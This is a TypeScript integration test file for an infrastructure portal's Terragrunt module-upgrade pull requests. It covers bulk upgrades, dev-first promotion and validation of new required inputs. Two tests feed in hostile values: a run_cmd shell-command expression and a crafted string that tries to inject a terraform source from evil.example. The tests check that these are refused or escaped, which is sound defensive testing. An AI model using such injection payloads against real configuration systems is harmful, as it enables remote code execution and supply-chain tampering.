import { execFile } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { connectTestDb } from "@/test/db";
import { startEstateUpgradeStack, ORG, type EstateUpgradeStack } from "@/test/estate-upgrade-stack";
import { seedDemoData } from "@/prisma/seed-demo-data";
import type { Viewer } from "@/lib/platform/auth/roles";
import { readUnit } from "@/lib/hcl";
import { getPromotionContext, promoteUnit, type ScaffoldDeps } from "@/lib/scaffold";
import { seedCatalogueFixture } from "@/test/seed-catalogue-fixture";
import { getUpgradeForm, openUpgradePullRequest } from "./open-upgrade-pull-request";
import { MAX_BULK_UPGRADES, openUpgradePullRequests } from "./open-upgrade-pull-requests";
import type { EstateDeps, ScanTarget } from "./ports";
import { reconcileNotices } from "./reconcile-notices";
import { scanWorkloadRepo } from "./scan-workload-repo";

/*
 * Upgrade PRs for many units, dev first then promoted, and with new required inputs filled in,
 * through PostgreSQL and the GitHub emulator (its merges send signed webhooks, handled by the
 * scaffold and the estate as the webhook route does).
 */

vi.mock("server-only", () => ({}));

const exec = promisify(execFile);
const db = connectTestDb();

let stack: EstateUpgradeStack;
let scaffold: ScaffoldDeps;
let deps: EstateDeps;
let target: ScanTarget;
let ids: Record<string, string>;

const alice: Viewer = { id: "0b0a11ce-0000-4000-8000-000000000001", username: "alice", name: "Alice Builder", email: null, role: "builder", workloads: [{ slug: "payments", name: "Payments", role: "builder" }] };
const dave: Viewer = { id: "0d0d0d00-0000-4000-8000-000000000004", username: "dave", name: "Dave", email: null, role: "builder", workloads: [] };

const repoDir = () => path.join(stack.stateDir, "repos", ORG, "payments-infra.git");

const control = (route: string, init?: { method?: string }) => stack.control(route, init);

const gitShow = (ref: string, file: string) => stack.gitShow(ref, file);

async function pullCount(): Promise<number> {
  return ((await control(`/pulls?repo=${ORG}/payments-infra`)) as unknown[]).length;
}

async function waitFor(predicate: () => Promise<boolean>, ms = 20_000): Promise<void> {
  const until = Date.now() + ms;
  while (!(await predicate())) {
    if (Date.now() > until) throw new Error("timed out");
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** Commits files to the consumer repo's main branch, as a team's own push would. */
async function pushFiles(files: Record<string, string>): Promise<void> {
  const work = await mkdtemp(path.join(os.tmpdir(), "estate-upgrades-clone-"));
  try {
    await exec("git", ["clone", "-q", repoDir(), work]);
    for (const [file, content] of Object.entries(files)) {
      await exec("mkdir", ["-p", path.dirname(path.join(work, file))]);
      await writeFile(path.join(work, file), content);
    }
    await exec("git", ["-C", work, "add", "-A"]);
    await exec("git", ["-C", work, "-c", "user.name=Team", "-c", "user.email=team@example.com", "commit", "-q", "-m", "more queues"]);
    await exec("git", ["-C", work, "push", "-q", "origin", "HEAD:main"]);
  } finally {
    await rm(work, { recursive: true, force: true });
  }
}

async function openConsumption(file: string) {
  return (await db.consumption.findFirst({ where: { workloadId: target.workloadId, file, endedAt: null }, include: { moduleVersion: true } }))!;
}

async function openNoticeOf(file: string) {
  const consumption = await openConsumption(file);
  return (await deps.store.findOpenNotices([consumption.id])).get(consumption.id) ?? null;
}

async function mergePullRequest(number: number): Promise<void> {
  await control(`/repos/${ORG}/payments-infra/pulls/${number}/merge`, { method: "POST" });
}

beforeAll(async () => {
  await seedDemoData(db);
  stack = await startEstateUpgradeStack(db, "estate-upgrades-it-");
  ({ scaffold, deps } = stack);
  ids = await seedCatalogueFixture({ db, repoDir: path.join(stack.stateDir, "repos", ORG, "iac-modules.git"), owner: ORG, repo: "iac-modules", modules: { vpc: ["1.0.0", "1.1.0", "1.2.0"], "sqs-queue": ["1.0.0", "1.1.0", "1.1.1", "1.2.0"] } });
  // Three more queues on sqs-queue 1.0.0 for the bulk upgrade, and orders-queue in prod, so it runs in dev, stage and prod.
  const stageQueue = await gitShow("main", "stage/eu-west-1/orders-queue/terragrunt.hcl");
  const queue = (name: string) => stageQueue.replace("payments-orders-stage", name);
  await pushFiles({
    "dev/eu-west-1/refunds-queue/terragrunt.hcl": queue("payments-refunds-dev"),
    "dev/eu-west-1/payouts-queue/terragrunt.hcl": queue("payments-payouts-dev"),
    "dev/eu-west-1/disputes-queue/terragrunt.hcl": queue("payments-disputes-dev"),
    "prod/eu-west-1/orders-queue/terragrunt.hcl": queue("payments-orders-prod"),
  });
  const [payments] = await deps.store.listScanTargets({ repo: { owner: ORG, repo: "payments-infra" } });
  target = payments!;
  await scanWorkloadRepo(deps, { target });
}, 180_000);

afterAll(async () => {
  await stack?.close();
  await db.$disconnect();
});

describe("upgrade PRs for many units at once", () => {
  const QUEUES = ["refunds-queue", "payouts-queue", "disputes-queue"].map((n) => `dev/eu-west-1/${n}/terragrunt.hcl`);

  it("opens one PR per unit, and running it again finds the same PRs", async () => {
    const consumptionIds = await Promise.all(QUEUES.map(async (file) => (await openConsumption(file)).id));
    const before = await pullCount();
    await expect(openUpgradePullRequests(deps, scaffold, dave, { consumptionIds })).rejects.toMatchObject({ code: "FORBIDDEN" });

    const first = await openUpgradePullRequests(deps, scaffold, alice, { consumptionIds });
    expect(first.results.map((r) => [r.file, r.status, r.to])).toEqual(QUEUES.map((file) => [file, "opened", "1.2.0"]));
    const numbers = first.results.map((r) => r.prNumber);
    expect(new Set(numbers).size).toBe(3);
    expect(await pullCount()).toBe(before + 3);
    // Each PR changes its own unit's ref line only.
    for (const result of first.results) {
      const request = (await db.scaffoldRequest.findFirst({ where: { prNumber: result.prNumber, workloadId: target.workloadId } }))!;
      const a = (await gitShow("main", result.file)).split("\n");
      const b = (await gitShow(request.branch!, result.file)).split("\n");
      expect(b.filter((line, i) => line !== a[i])).toEqual([a.find((l) => l.includes("?ref="))!.replace("sqs-queue/v1.0.0", "sqs-queue/v1.2.0")]);
    }

    const again = await openUpgradePullRequests(deps, scaffold, alice, { consumptionIds: [...consumptionIds].reverse() });
    expect(again.results.map((r) => r.status)).toEqual(["already_open", "already_open", "already_open"]);
    expect(again.results.map((r) => r.prNumber).sort()).toEqual([...numbers].sort());
    expect(await pullCount()).toBe(before + 3);
    expect(await db.scaffoldRequest.count({ where: { workloadId: target.workloadId, kind: "update", unitPath: { in: QUEUES } } })).toBe(3);
  });

  it("reports each unit's own outcome: one refused with its reason does not stop the others", async () => {
    const files = ["dev", "stage", "prod"].map((env) => `${env}/eu-west-1/vpc/terragrunt.hcl`);
    const units = await Promise.all(files.map(openConsumption));
    const { results } = await openUpgradePullRequests(deps, scaffold, alice, { consumptionIds: units.map((u) => u.id) });
    expect(results.map((r) => [r.file, r.status])).toEqual([
      [files[0], "refused"],
      [files[1], "opened"],
      [files[2], "opened"],
    ]);
    expect(results[0]!.message).toBe("No supported version of vpc is newer than 1.2.0");
    expect(results.slice(1).every((r) => r.to === "1.2.0" && r.prNumber !== null)).toBe(true);
  });

  it("refuses a batch over the cap, of several modules, or naming unknown units, with a clear error", async () => {
    const queue = await openConsumption(QUEUES[0]!);
    const vpc = await openConsumption("prod/eu-west-1/vpc/terragrunt.hcl");
    const many = Array.from({ length: MAX_BULK_UPGRADES + 1 }, (_, i) => `00000000-0000-4000-8000-${String(i).padStart(12, "0")}`);
    await expect(openUpgradePullRequests(deps, scaffold, alice, { consumptionIds: many })).rejects.toMatchObject({ code: "INVALID_INPUT", message: expect.stringContaining(`at most ${MAX_BULK_UPGRADES} units`) });
    await expect(openUpgradePullRequests(deps, scaffold, alice, { consumptionIds: [queue.id, vpc.id] })).rejects.toMatchObject({ code: "INVALID_INPUT", message: expect.stringContaining("one catalogue module") });
    await expect(openUpgradePullRequests(deps, scaffold, alice, { consumptionIds: [queue.id, many[0]!] })).rejects.toMatchObject({ code: "NOT_FOUND" });
  });
});

describe("upgrade dev first, then promote", () => {
  const DEV = "dev/eu-west-1/orders-queue/terragrunt.hcl";
  const STAGE = "stage/eu-west-1/orders-queue/terragrunt.hcl";
  const PROD = "prod/eu-west-1/orders-queue/terragrunt.hcl";

  it("opens the dev unit's PR only; after its merge the promotion carries the new version, and stage and prod keep their notices until upgraded", async () => {
    const units = await Promise.all([DEV, STAGE, PROD].map(openConsumption));
    const { results } = await openUpgradePullRequests(deps, scaffold, alice, { consumptionIds: units.map((u) => u.id), onlyEnv: "dev" });
    expect(results.map((r) => [r.file, r.status])).toEqual([
      [DEV, "opened"],
      [STAGE, "held"],
      [PROD, "held"],
    ]);
    expect(await db.scaffoldRequest.count({ where: { workloadId: target.workloadId, unitPath: { in: [STAGE, PROD] } } })).toBe(0);

    const stageNotice = (await openNoticeOf(STAGE))!;
    const prodNotice = (await openNoticeOf(PROD))!;
    await mergePullRequest(results[0]!.prNumber!);
    await waitFor(async () => (await openConsumption(DEV)).moduleVersion?.version === "1.2.0");
    await waitFor(async () => (await openNoticeOf(DEV)) === null);
    // Stage and prod still run 1.0.0: their notices stay.
    expect((await openNoticeOf(STAGE))?.id).toBe(stageNotice.id);
    expect((await openNoticeOf(PROD))?.id).toBe(prodNotice.id);

    // The existing promotion flow reads the dev unit from main: it is on the new version now.
    const context = await getPromotionContext(scaffold, alice, { workload: "payments", unitPath: DEV });
    expect(context.from.moduleVersionId).toBe(ids["sqs-queue@1.2.0"]);
    expect(context.from.ref).toBe("sqs-queue/v1.2.0");
    const stageInputs = (await readUnit(await gitShow("main", STAGE))).inputs;
    const promotion = await promoteUnit(scaffold, alice, { workload: "payments", unitPath: DEV, toEnv: "stage", inputs: stageInputs, replaceExisting: true, idempotencyKey: "promote-orders-queue-stage-1" });
    const request = (await db.scaffoldRequest.findUniqueOrThrow({ where: { id: promotion.id } }));
    const promoted = await gitShow(request.branch!, STAGE);
    expect(promoted).toContain("?ref=sqs-queue/v1.2.0");
    expect(promoted).toContain("payments-orders-stage");
    expect((await openNoticeOf(STAGE))?.id).toBe(stageNotice.id);

    await mergePullRequest(promotion.prNumber!);
    await waitFor(async () => (await openConsumption(STAGE)).moduleVersion?.version === "1.2.0");
    await waitFor(async () => (await db.estateNotice.findUniqueOrThrow({ where: { id: stageNotice.id } })).resolvedAt !== null);
    expect(await db.estateNotice.findUniqueOrThrow({ where: { id: stageNotice.id } })).toMatchObject({ resolution: "satisfied" });
    expect((await openNoticeOf(PROD))?.id).toBe(prodNotice.id);
  });
});

describe("new required inputs", () => {
  const DEV_VPC = "dev/eu-west-1/vpc/terragrunt.hcl";
  const subnets = { "private-a": { cidr_block: "10.10.10.0/24", az: "eu-west-1a", tier: "private" } };

  beforeAll(async () => {
    // vpc 2.0.0 adds the required `subnets` input (and removes azs and the subnet lists).
    ids = { ...ids, ...(await seedCatalogueFixture({ db, repoDir: path.join(stack.stateDir, "repos", ORG, "iac-modules.git"), owner: ORG, repo: "iac-modules", modules: { vpc: ["1.0.0", "1.1.0", "1.2.0", "2.0.0"] } })) };
    await reconcileNotices(deps, { moduleId: (await db.moduleVersion.findUniqueOrThrow({ where: { id: ids["vpc@2.0.0"]! } })).moduleId });
  }, 60_000);

  // The integration database is shared by the run's files, and the others expect vpc to end at 1.2.0.
  afterAll(async () => {
    await db.moduleVersion.update({ where: { id: ids["vpc@2.0.0"]! }, data: { status: "withdrawn", statusReason: "upgrades.int.test.ts is done with it" } });
  });

  it("asks for them before opening anything, and offers the scaffold form for only those inputs", async () => {
    const unit = await openConsumption(DEV_VPC);
    const before = await pullCount();
    const outcome = await openUpgradePullRequest(deps, scaffold, alice, { consumptionId: unit.id });
    expect(outcome).toMatchObject({ status: "inputs_required", from: "1.2.0", to: "2.0.0", requiredInputs: ["subnets"] });
    expect(await pullCount()).toBe(before);
    const form = await getUpgradeForm(deps, scaffold, alice, { consumptionId: unit.id });
    expect(form.form.fields.map((f) => f.name)).toEqual(["subnets"]);
    expect(form.actions.map((a) => a.kind)).toContain("remove_input");
  });

  it("refuses values for other inputs, expressions outside a reference, and disallowed expressions", async () => {
    const unit = await openConsumption(DEV_VPC);
    await expect(openUpgradePullRequest(deps, scaffold, alice, { consumptionId: unit.id, inputs: { subnets, name: "hijacked" } })).rejects.toMatchObject({ code: "INVALID_INPUT", fieldErrors: [expect.objectContaining({ path: "name" })] });
    await expect(openUpgradePullRequest(deps, scaffold, alice, { consumptionId: unit.id, inputs: { subnets: { __expr: "dependency.net.outputs.subnets" } } })).rejects.toMatchObject({ code: "INVALID_INPUT" });
    await expect(
      openUpgradePullRequest(deps, scaffold, alice, { consumptionId: unit.id, inputs: { subnets: { __expr: 'run_cmd("sh", "-c", "id")' } }, references: ["subnets"] }),
    ).rejects.toMatchObject({ code: "INVALID_INPUT" });
    await expect(openUpgradePullRequest(deps, scaffold, alice, { consumptionId: unit.id, inputs: { subnets: { a: { cidr_block: "x", az: "y", tier: "nowhere" } } } })).rejects.toMatchObject({
      code: "INVALID_INPUT",
    });
  });

  it("writes the filled-in inputs into the unit's inputs block in place: the diff touches only the ref line and the new lines", async () => {
    const unit = await openConsumption(DEV_VPC);
    const hostileName = `evil"\n}\nterraform { source = "git::https://evil.example/x.git" }\n# \${run_cmd("id")}`;
    const outcome = await openUpgradePullRequest(deps, scaffold, alice, { consumptionId: unit.id, inputs: { subnets: { ...subnets, "public-a": { cidr_block: "10.10.0.0/24", az: hostileName, tier: "public" } } } });
    expect(outcome).toMatchObject({ status: "opened", to: "2.0.0", filledInputs: ["subnets"] });
    if (outcome.status !== "opened") return;
    const request = (await db.scaffoldRequest.findUniqueOrThrow({ where: { id: outcome.pullRequest.id } }));
    const before = await gitShow("main", DEV_VPC);
    const after = await gitShow(request.branch!, DEV_VPC);
    const a = before.split("\n");
    const b = after.split("\n");
    // Same lines, but for the ref line; the new lines sit together right before the inputs block's closing brace.
    const refAt = a.findIndex((l) => l.includes("?ref=vpc/v1.2.0"));
    expect(b[refAt]).toBe(a[refAt]!.replace("vpc/v1.2.0", "vpc/v2.0.0"));
    const closeAt = a.lastIndexOf("}");
    const added = b.length - a.length;
    expect(added).toBeGreaterThan(0);
    expect([...b.slice(0, refAt), ...b.slice(refAt + 1, closeAt), ...b.slice(closeAt + added)]).toEqual([...a.slice(0, refAt), ...a.slice(refAt + 1, closeAt), ...a.slice(closeAt)]);
    expect(b.slice(closeAt, closeAt + added)[0]).toBe("  subnets = {");
    const written = await readUnit(after);
    expect(written.source).toContain("?ref=vpc/v2.0.0");
    expect(written.source).not.toContain("evil");
    expect((written.inputs.subnets as Record<string, { az: string }>)["public-a"]!.az).toBe(hostileName);
    expect(Object.keys(written.inputs).sort()).toEqual([...Object.keys((await readUnit(before)).inputs), "subnets"].sort());
    expect(request.inputs).toMatchObject({ subnets: { "private-a": { tier: "private" } } });
    const body = (request.steps as { pullRequestText: { body: string } }).pullRequestText.body;
    expect(body).toContain("filled in through the portal");
    expect(body).toContain("Remove the input `azs`");
    expect(body).not.toContain("Add the input `subnets`");

    // One PR per unit and target version: asking again, with other values, finds it.
    const again = await openUpgradePullRequest(deps, scaffold, alice, { consumptionId: unit.id, inputs: { subnets } });
    expect(again).toMatchObject({ status: "already_open", pullRequest: { id: outcome.pullRequest.id } });
    expect(await readFile(path.join(repoDir(), "HEAD"), "utf8")).toContain("main");
  });
});
